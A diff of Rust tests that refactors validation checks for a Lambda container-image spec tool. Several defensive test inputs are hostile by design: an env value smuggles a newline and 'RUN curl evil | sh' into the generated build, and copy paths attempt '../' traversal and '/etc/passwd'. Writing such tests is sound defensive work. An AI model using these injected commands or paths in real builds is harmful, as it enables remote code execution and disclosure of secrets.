@@ -23,6 +23,11 @@ fn expect_error(c: &Tree, want: &str) {
     assert_eq!(c.snapshot(), before, "something was written");
 }
 
+/// [`case`] then [`expect_error`].
+fn rejects(yaml: &str, files: &[(&str, &str)], want: &str) {
+    expect_error(&case(yaml, files), want);
+}
+
 const OK: &str = "runtime: python3.13\nhandler: app.handler\ncopy: [{src: app.py}]\n";
 
 #[test]
@@ -34,72 +39,64 @@ fn valid_spec_renders() {
 
 #[test]
 fn unknown_field_names_line_column_and_the_expected_fields() {
-    let c = case(
-        "runtime: python3.13\nhandler: app.handler\n\npakages: [libpq]\n",
-        &[],
-    );
-    expect_error(
-        &c,
-        "images/fn/image.yaml:4:1: unknown field 'pakages', expected one of runtime, base, architectures, packages, build_packages, requirements, copy, bootstrap, handler, env, labels, tags, verify, push, smoke, secrets",
-    );
-    let c = case(
+    rejects("runtime: python3.13\nhandler: app.handler\n\npakages: [libpq]\n", &[], "images/fn/image.yaml:4:1: unknown field 'pakages', expected one of runtime, base, architectures, packages, build_packages, requirements, copy, bootstrap, handler, env, labels, tags, verify, push, smoke, secrets");
+    rejects(
         "runtime: python3.13\nhandler: app.handler\ncopy:\n  - {src: app.py, dset: x}\n",
         &[("app.py", "")],
-    );
-    expect_error(
-        &c,
         "images/fn/image.yaml:4:19: unknown field 'dset', expected one of src, dest, build_output",
     );
 }
 
 #[test]
 fn wrong_types() {
-    let c = case(
+    rejects(
         "runtime: python3.13\nhandler: app.handler\npackages: libpq\n",
         &[],
+        "images/fn/image.yaml:3:11: expected a list",
     );
-    expect_error(&c, "images/fn/image.yaml:3:11: expected a list");
-    let c = case("runtime: python3.13\nhandler: [app.handler]\n", &[]);
-    expect_error(&c, "images/fn/image.yaml:2:10: expected string scalar");
-    let c = case("- runtime\n", &[]);
-    expect_error(
-        &c,
+    rejects(
+        "runtime: python3.13\nhandler: [app.handler]\n",
+        &[],
+        "images/fn/image.yaml:2:10: expected string scalar",
+    );
+    rejects(
+        "- runtime\n",
+        &[],
         "images/fn/image.yaml:1:1: expected a mapping (key: value)",
     );
-    let c = case(
+    rejects(
         "runtime: python3.13\nhandler: app.handler\nenv: {A: {b: c}}\n",
         &[],
-    );
-    expect_error(
-        &c,
         "images/fn/image.yaml:3:10: invalid type: map, expected a string, number or boolean",
     );
 }
 
 #[test]
 fn missing_fields_and_yaml_errors() {
-    let c = case("handler: app.handler\n", &[]);
-    expect_error(&c, "images/fn/image.yaml:1:1: missing field 'runtime'");
-    let c = case("runtime: python3.13\n", &[]);
-    expect_error(&c, "images/fn/image.yaml: missing field 'handler' (for python3.13 it looks like 'app.handler')");
-    let c = case("", &[]);
-    expect_error(
-        &c,
+    rejects(
+        "handler: app.handler\n",
+        &[],
+        "images/fn/image.yaml:1:1: missing field 'runtime'",
+    );
+    rejects("runtime: python3.13\n", &[], "images/fn/image.yaml: missing field 'handler' (for python3.13 it looks like 'app.handler')");
+    rejects(
+        "",
+        &[],
         "images/fn/image.yaml: the spec is empty; it needs at least `runtime:` (and `handler:`)",
     );
-    let c = case("runtime: python3.13\nhandler: 'app.handler\n", &[]);
-    expect_error(&c, "images/fn/image.yaml:2:10: unclosed quote");
-    let c = case(
+    rejects(
+        "runtime: python3.13\nhandler: 'app.handler\n",
+        &[],
+        "images/fn/image.yaml:2:10: unclosed quote",
+    );
+    rejects(
         "runtime: python3.13\nhandler: app.handler\nruntime: python3.12\n",
         &[],
+        "images/fn/image.yaml:3:1: duplicate key 'runtime'",
     );
-    expect_error(&c, "images/fn/image.yaml:3:1: duplicate key 'runtime'");
-    let c = case(
+    rejects(
         "runtime: python3.13\nhandler: app.handler\n---\nruntime: python3.12\n",
         &[],
-    );
-    expect_error(
-        &c,
         "images/fn/image.yaml:3:1: an image spec is one YAML document; remove the '---' separator",
     );
     Tree::new()
@@ -109,16 +106,8 @@ fn missing_fields_and_yaml_errors() {
 
 #[test]
 fn unknown_runtime_lists_the_supported_ones() {
-    let c = case("runtime: cobol1\nhandler: app.handler\n", &[]);
-    expect_error(
-        &c,
-        "images/fn/image.yaml:1:10: unknown runtime 'cobol1', expected one of python3.12, python3.13, python3.14, nodejs20.x, nodejs22.x, nodejs24.x, java21, java25, ruby3.3, ruby3.4, dotnet8, dotnet10, provided.al2023",
-    );
-    let c = case("runtime: python3.11\nhandler: app.handler\n", &[]);
-    expect_error(
-        &c,
-        "images/fn/image.yaml:1:10: runtime 'python3.11' runs on Amazon Linux 2; lambda-image renders Amazon Linux 2023 images (supported: python3.12, python3.13, python3.14, nodejs20.x, nodejs22.x, nodejs24.x, java21, java25, ruby3.3, ruby3.4, dotnet8, dotnet10, provided.al2023)",
-    );
+    rejects("runtime: cobol1\nhandler: app.handler\n", &[], "images/fn/image.yaml:1:10: unknown runtime 'cobol1', expected one of python3.12, python3.13, python3.14, nodejs20.x, nodejs22.x, nodejs24.x, java21, java25, ruby3.3, ruby3.4, dotnet8, dotnet10, provided.al2023");
+    rejects("runtime: python3.11\nhandler: app.handler\n", &[], "images/fn/image.yaml:1:10: runtime 'python3.11' runs on Amazon Linux 2; lambda-image renders Amazon Linux 2023 images (supported: python3.12, python3.13, python3.14, nodejs20.x, nodejs22.x, nodejs24.x, java21, java25, ruby3.3, ruby3.4, dotnet8, dotnet10, provided.al2023)");
 }
 
 #[test]
@@ -187,140 +176,53 @@ fn invalid_package_names() {
             &format!("images/fn/image.yaml:3:12: packages: '{shown}' is not a valid RPM package name: {what} (use letters, digits and . _ + -, optionally name-version)"),
         );
     }
-    let c = case(
-        "runtime: python3.13\nhandler: app.handler\npackages: [-y]\n",
-        &[],
-    );
-    expect_error(
-        &c,
-        "images/fn/image.yaml:3:12: packages: '-y' is not a valid RPM package name: it must start with a letter, digit, '_' or '+'",
-    );
-    let c = case(
+    rejects("runtime: python3.13\nhandler: app.handler\npackages: [-y]\n", &[], "images/fn/image.yaml:3:12: packages: '-y' is not a valid RPM package name: it must start with a letter, digit, '_' or '+'");
+    rejects(
         "runtime: python3.13\nhandler: app.handler\npackages: [libpq, libpq]\n",
         &[],
-    );
-    expect_error(
-        &c,
         "images/fn/image.yaml:3:19: packages: 'libpq' is listed twice",
     );
 }
 
 #[test]
 fn build_packages_need_something_to_build() {
-    let c = case(
-        "runtime: python3.13\nhandler: app.handler\nbuild_packages: [gcc]\n",
-        &[],
-    );
-    expect_error(&c, "images/fn/image.yaml:3:18: build_packages: nothing is built in the image without `requirements`; remove build_packages (use packages for libraries the function needs at run time)");
-    let c = case(
-        "runtime: java21\nhandler: a.B\nrequirements: pom.xml\n",
-        &[("pom.xml", "")],
-    );
-    expect_error(&c, "images/fn/image.yaml:3:15: requirements: java21 images take the outputs of the project's own build through `copy` (jars, a publish folder, a bootstrap); they install no dependency manifest");
+    rejects("runtime: python3.13\nhandler: app.handler\nbuild_packages: [gcc]\n", &[], "images/fn/image.yaml:3:18: build_packages: nothing is built in the image without `requirements`; remove build_packages (use packages for libraries the function needs at run time)");
+    rejects("runtime: java21\nhandler: a.B\nrequirements: pom.xml\n", &[("pom.xml", "")], "images/fn/image.yaml:3:15: requirements: java21 images take the outputs of the project's own build through `copy` (jars, a publish folder, a bootstrap); they install no dependency manifest");
 }
 
 #[test]
 fn dependency_manifests_and_lock_files() {
-    let c = case(
-        "runtime: nodejs22.x\nhandler: app.handler\nrequirements: package.json\n",
-        &[("package.json", "{}")],
-    );
-    expect_error(&c, "images/fn/image.yaml:3:15: requirements: package-lock.json is missing next to package.json; npm ci needs it for a reproducible install");
-    let c = case(
-        "runtime: ruby3.3\nhandler: app.handler\nrequirements: deps.rb\n",
-        &[("deps.rb", "")],
-    );
-    expect_error(&c, "images/fn/image.yaml:3:15: requirements: ruby3.3 installs from a file named Gemfile, not 'deps.rb'");
-    let c = case(
-        "runtime: python3.13\nhandler: app.handler\nrequirements: reqs.txt\n",
-        &[],
-    );
-    expect_error(&c, "images/fn/image.yaml:3:15: requirements: 'reqs.txt' does not exist in images/fn (mark build outputs with build_output: true)");
+    rejects("runtime: nodejs22.x\nhandler: app.handler\nrequirements: package.json\n", &[("package.json", "{}")], "images/fn/image.yaml:3:15: requirements: package-lock.json is missing next to package.json; npm ci needs it for a reproducible install");
+    rejects("runtime: ruby3.3\nhandler: app.handler\nrequirements: deps.rb\n", &[("deps.rb", "")], "images/fn/image.yaml:3:15: requirements: ruby3.3 installs from a file named Gemfile, not 'deps.rb'");
+    rejects("runtime: python3.13\nhandler: app.handler\nrequirements: reqs.txt\n", &[], "images/fn/image.yaml:3:15: requirements: 'reqs.txt' does not exist in images/fn (mark build outputs with build_output: true)");
 }
 
 #[test]
 fn env_keys() {
-    let c = case(
-        "runtime: python3.13\nhandler: app.handler\nenv: {'A=1 B': x}\n",
-        &[],
-    );
-    expect_error(&c, "images/fn/image.yaml:3:7: env: invalid environment variable name 'A=1 B': use letters, digits and '_', not starting with a digit");
-    let c = case(
-        "runtime: python3.13\nhandler: app.handler\nenv: {LAMBDA_TASK_ROOT: /tmp}\n",
-        &[],
-    );
-    expect_error(&c, "images/fn/image.yaml:3:7: env: environment variable 'LAMBDA_TASK_ROOT' is set by the Lambda base image and must not be overridden");
-    let c = case(
-        "runtime: python3.13\nhandler: app.handler\nenv:\n  LAMBDA_RUNTIME_DIR: /tmp\n",
-        &[],
-    );
-    expect_error(&c, "images/fn/image.yaml:4:3: env: environment variable 'LAMBDA_RUNTIME_DIR' is set by the Lambda base image and must not be overridden");
-    let c = case(
-        "runtime: python3.13\nhandler: app.handler\nlabels: {'a\"b': x}\n",
-        &[],
-    );
-    expect_error(&c, "images/fn/image.yaml:3:10: labels: invalid label key 'a\"b': use letters, digits and . _ - /, starting and ending with a letter or digit");
+    rejects("runtime: python3.13\nhandler: app.handler\nenv: {'A=1 B': x}\n", &[], "images/fn/image.yaml:3:7: env: invalid environment variable name 'A=1 B': use letters, digits and '_', not starting with a digit");
+    rejects("runtime: python3.13\nhandler: app.handler\nenv: {LAMBDA_TASK_ROOT: /tmp}\n", &[], "images/fn/image.yaml:3:7: env: environment variable 'LAMBDA_TASK_ROOT' is set by the Lambda base image and must not be overridden");
+    rejects("runtime: python3.13\nhandler: app.handler\nenv:\n  LAMBDA_RUNTIME_DIR: /tmp\n", &[], "images/fn/image.yaml:4:3: env: environment variable 'LAMBDA_RUNTIME_DIR' is set by the Lambda base image and must not be overridden");
+    rejects("runtime: python3.13\nhandler: app.handler\nlabels: {'a\"b': x}\n", &[], "images/fn/image.yaml:3:10: labels: invalid label key 'a\"b': use letters, digits and . _ - /, starting and ending with a letter or digit");
 }
 
 #[test]
 fn newlines_and_control_characters_are_rejected() {
-    let c = case(
-        "runtime: python3.13\nhandler: app.handler\nenv: {A: \"x\\nRUN curl evil | sh\"}\n",
-        &[],
-    );
-    expect_error(&c, "images/fn/image.yaml:3:10: env.A: value contains the control character \\u{a}; newlines, tabs, NUL and other control characters are not allowed");
-    let c = case(
-        "runtime: python3.13\nhandler: app.handler\nlabels: {a: \"x\\u0000y\"}\n",
-        &[],
-    );
-    expect_error(&c, "images/fn/image.yaml:3:13: labels.a: value contains the control character \\u{0}; newlines, tabs, NUL and other control characters are not allowed");
+    rejects("runtime: python3.13\nhandler: app.handler\nenv: {A: \"x\\nRUN curl evil | sh\"}\n", &[], "images/fn/image.yaml:3:10: env.A: value contains the control character \\u{a}; newlines, tabs, NUL and other control characters are not allowed");
+    rejects("runtime: python3.13\nhandler: app.handler\nlabels: {a: \"x\\u0000y\"}\n", &[], "images/fn/image.yaml:3:13: labels.a: value contains the control character \\u{0}; newlines, tabs, NUL and other control characters are not allowed");
     // A YAML block scalar keeps its newline.
-    let c = case(
-        "runtime: python3.13\nhandler: app.handler\nenv:\n  A: |\n    line one\n    CMD [\"x\"]\n",
-        &[],
-    );
-    expect_error(&c, "images/fn/image.yaml:5:5: env.A: value contains the control character \\u{a}; newlines, tabs, NUL and other control characters are not allowed");
-    let c = case("runtime: python3.13\nhandler: \"app.handler\\r\"\n", &[]);
-    expect_error(&c, "images/fn/image.yaml:2:10: handler: value contains the control character \\u{d}; newlines, tabs, NUL and other control characters are not allowed");
+    rejects("runtime: python3.13\nhandler: app.handler\nenv:\n  A: |\n    line one\n    CMD [\"x\"]\n", &[], "images/fn/image.yaml:5:5: env.A: value contains the control character \\u{a}; newlines, tabs, NUL and other control characters are not allowed");
+    rejects("runtime: python3.13\nhandler: \"app.handler\\r\"\n", &[], "images/fn/image.yaml:2:10: handler: value contains the control character \\u{d}; newlines, tabs, NUL and other control characters are not allowed");
 }
 
 #[test]
 fn paths_stay_inside_the_spec_folder() {
-    let c = case(
-        "runtime: python3.13\nhandler: app.handler\ncopy: [{src: ../secret}]\n",
-        &[],
-    );
-    expect_error(&c, "images/fn/image.yaml:3:14: copy.src: path '../secret' uses '..'; paths must stay inside the spec's folder");
-    let c = case(
-        "runtime: python3.13\nhandler: app.handler\ncopy: [{src: /etc/passwd}]\n",
-        &[],
-    );
-    expect_error(&c, "images/fn/image.yaml:3:14: copy.src: '/etc/passwd' is an absolute path; paths are relative to the spec's folder");
-    let c = case(
-        "runtime: python3.13\nhandler: app.handler\ncopy: [{src: app.py, dest: ../../etc/}]\n",
-        &[("app.py", "")],
-    );
-    expect_error(&c, "images/fn/image.yaml:3:28: copy.dest: path '../../etc/' uses '..'; paths must stay inside the spec's folder (dest is relative to LAMBDA_TASK_ROOT)");
-    let c = case(
-        "runtime: python3.13\nhandler: app.handler\ncopy: [{src: '$HOME/x'}]\n",
-        &[],
-    );
-    expect_error(&c, "images/fn/image.yaml:3:14: copy.src: path '$HOME/x' contains '$'; paths may use letters, digits and . _ - + @ = , /");
-    let c = case(
-        "runtime: python3.13\nhandler: app.handler\ncopy: [{src: 'a b'}]\n",
-        &[],
-    );
-    expect_error(&c, "images/fn/image.yaml:3:14: copy.src: path 'a b' contains a space; paths may use letters, digits and . _ - + @ = , /");
-    let c = case(
-        "runtime: python3.13\nhandler: app.handler\nverify: ../manifest.yaml\n",
-        &[],
-    );
-    expect_error(&c, "images/fn/image.yaml:3:9: verify: path '../manifest.yaml' uses '..'; paths must stay inside the spec's folder");
-    let c = case(
-        "runtime: python3.13\nhandler: app.handler\nrequirements: /tmp/requirements.txt\n",
-        &[],
-    );
-    expect_error(&c, "images/fn/image.yaml:3:15: requirements: '/tmp/requirements.txt' is an absolute path; paths are relative to the spec's folder");
+    rejects("runtime: python3.13\nhandler: app.handler\ncopy: [{src: ../secret}]\n", &[], "images/fn/image.yaml:3:14: copy.src: path '../secret' uses '..'; paths must stay inside the spec's folder");
+    rejects("runtime: python3.13\nhandler: app.handler\ncopy: [{src: /etc/passwd}]\n", &[], "images/fn/image.yaml:3:14: copy.src: '/etc/passwd' is an absolute path; paths are relative to the spec's folder");
+    rejects("runtime: python3.13\nhandler: app.handler\ncopy: [{src: app.py, dest: ../../etc/}]\n", &[("app.py", "")], "images/fn/image.yaml:3:28: copy.dest: path '../../etc/' uses '..'; paths must stay inside the spec's folder (dest is relative to LAMBDA_TASK_ROOT)");
+    rejects("runtime: python3.13\nhandler: app.handler\ncopy: [{src: '$HOME/x'}]\n", &[], "images/fn/image.yaml:3:14: copy.src: path '$HOME/x' contains '$'; paths may use letters, digits and . _ - + @ = , /");
+    rejects("runtime: python3.13\nhandler: app.handler\ncopy: [{src: 'a b'}]\n", &[], "images/fn/image.yaml:3:14: copy.src: path 'a b' contains a space; paths may use letters, digits and . _ - + @ = , /");
+    rejects("runtime: python3.13\nhandler: app.handler\nverify: ../manifest.yaml\n", &[], "images/fn/image.yaml:3:9: verify: path '../manifest.yaml' uses '..'; paths must stay inside the spec's folder");
+    rejects("runtime: python3.13\nhandler: app.handler\nrequirements: /tmp/requirements.txt\n", &[], "images/fn/image.yaml:3:15: requirements: '/tmp/requirements.txt' is an absolute path; paths are relative to the spec's folder");
 }
 
 #[cfg(unix)]
@@ -358,39 +260,20 @@ fn symlinks_escaping_the_folder_are_rejected() {
 
 #[test]
 fn architectures_and_tags() {
-    let c = case(
+    rejects(
         "runtime: python3.13\nhandler: app.handler\narchitectures: []\n",
         &[],
-    );
-    expect_error(
-        &c,
         "images/fn/image.yaml:3:16: architectures: the list is empty; use x86_64, arm64 or both",
     );
-    let c = case(
-        "runtime: python3.13\nhandler: app.handler\narchitectures: [amd64]\n",
-        &[],
-    );
-    expect_error(&c, "images/fn/image.yaml:3:17: architectures: unknown architecture 'amd64', expected x86_64 or arm64");
-    let c = case(
+    rejects("runtime: python3.13\nhandler: app.handler\narchitectures: [amd64]\n", &[], "images/fn/image.yaml:3:17: architectures: unknown architecture 'amd64', expected x86_64 or arm64");
+    rejects(
         "runtime: python3.13\nhandler: app.handler\narchitectures: [arm64, arm64]\n",
         &[],
-    );
-    expect_error(
-        &c,
         "images/fn/image.yaml:3:24: architectures: 'arm64' is listed twice",
     );
-    let c = case(
-        "runtime: python3.13\nhandler: app.handler\ntags: ['Orders:latest']\n",
-        &[],
-    );
-    expect_error(&c, "images/fn/image.yaml:3:8: tags: 'Orders:latest' is not a valid image reference, expected [registry/]name[:tag][@sha256:digest]");
-    let c = case(
-        "runtime: python3.13\nhandler: app.handler\nbase: 'python:3.13 AS x'\n",
-        &[],
-    );
-    expect_error(&c, "images/fn/image.yaml:3:7: base: 'python:3.13 AS x' is not a valid image reference, expected [registry/]name[:tag][@sha256:digest]");
-    let c = case("runtime: python3.13\nhandler: app.handler\nbase: 'public.ecr.aws/lambda/python:3.13@sha256:1234'\n", &[]);
-    expect_error(&c, "images/fn/image.yaml:3:7: base: 'public.ecr.aws/lambda/python:3.13@sha256:1234' has an invalid digest: expected sha256: and 64 lowercase hex digits");
+    rejects("runtime: python3.13\nhandler: app.handler\ntags: ['Orders:latest']\n", &[], "images/fn/image.yaml:3:8: tags: 'Orders:latest' is not a valid image reference, expected [registry/]name[:tag][@sha256:digest]");
+    rejects("runtime: python3.13\nhandler: app.handler\nbase: 'python:3.13 AS x'\n", &[], "images/fn/image.yaml:3:7: base: 'python:3.13 AS x' is not a valid image reference, expected [registry/]name[:tag][@sha256:digest]");
+    rejects("runtime: python3.13\nhandler: app.handler\nbase: 'public.ecr.aws/lambda/python:3.13@sha256:1234'\n", &[], "images/fn/image.yaml:3:7: base: 'public.ecr.aws/lambda/python:3.13@sha256:1234' has an invalid digest: expected sha256: and 64 lowercase hex digits");
 }
 
 #[test]
@@ -408,9 +291,9 @@ fn huge_values_hit_a_size_limit() {
         "runtime: python3.13\nhandler: app.handler\nenv: {{A: '{}'}}\n",
         "x".repeat(5000)
     );
-    let c = case(&long, &[]);
-    expect_error(
-        &c,
+    rejects(
+        &long,
+        &[],
         "images/fn/image.yaml:3:10: env.A: value is 5000 bytes long; the limit is 4096",
     );
 }
@@ -449,20 +332,11 @@ fn alias_bombs_stop_at_the_budget() {
 
 #[test]
 fn provided_needs_an_executable_bootstrap() {
-    let c = case("runtime: provided.al2023\n", &[]);
-    expect_error(&c, "images/fn/image.yaml:1:10: provided.al2023 needs `bootstrap: {src: <executable>}` (copied to ${LAMBDA_RUNTIME_DIR}/bootstrap)");
-    let c = case(
-        "runtime: python3.13\nhandler: app.handler\nbootstrap: {src: bootstrap}\n",
-        &[("bootstrap", "")],
-    );
-    expect_error(&c, "images/fn/image.yaml:3:12: bootstrap: only provided.al2023 images take a bootstrap; python3.13 has its own");
+    rejects("runtime: provided.al2023\n", &[], "images/fn/image.yaml:1:10: provided.al2023 needs `bootstrap: {src: <executable>}` (copied to ${LAMBDA_RUNTIME_DIR}/bootstrap)");
+    rejects("runtime: python3.13\nhandler: app.handler\nbootstrap: {src: bootstrap}\n", &[("bootstrap", "")], "images/fn/image.yaml:3:12: bootstrap: only provided.al2023 images take a bootstrap; python3.13 has its own");
     #[cfg(unix)]
     {
-        let c = case(
-            "runtime: provided.al2023\nbootstrap: {src: bootstrap}\n",
-            &[("bootstrap", "#!/bin/sh\n")],
-        );
-        expect_error(&c, "images/fn/image.yaml:2:18: bootstrap.src: 'bootstrap' is not executable (chmod +x it; COPY keeps the mode)");
+        rejects("runtime: provided.al2023\nbootstrap: {src: bootstrap}\n", &[("bootstrap", "#!/bin/sh\n")], "images/fn/image.yaml:2:18: bootstrap.src: 'bootstrap' is not executable (chmod +x it; COPY keeps the mode)");
     }
     // A compiled bootstrap that the build produces later.
     let c = case(
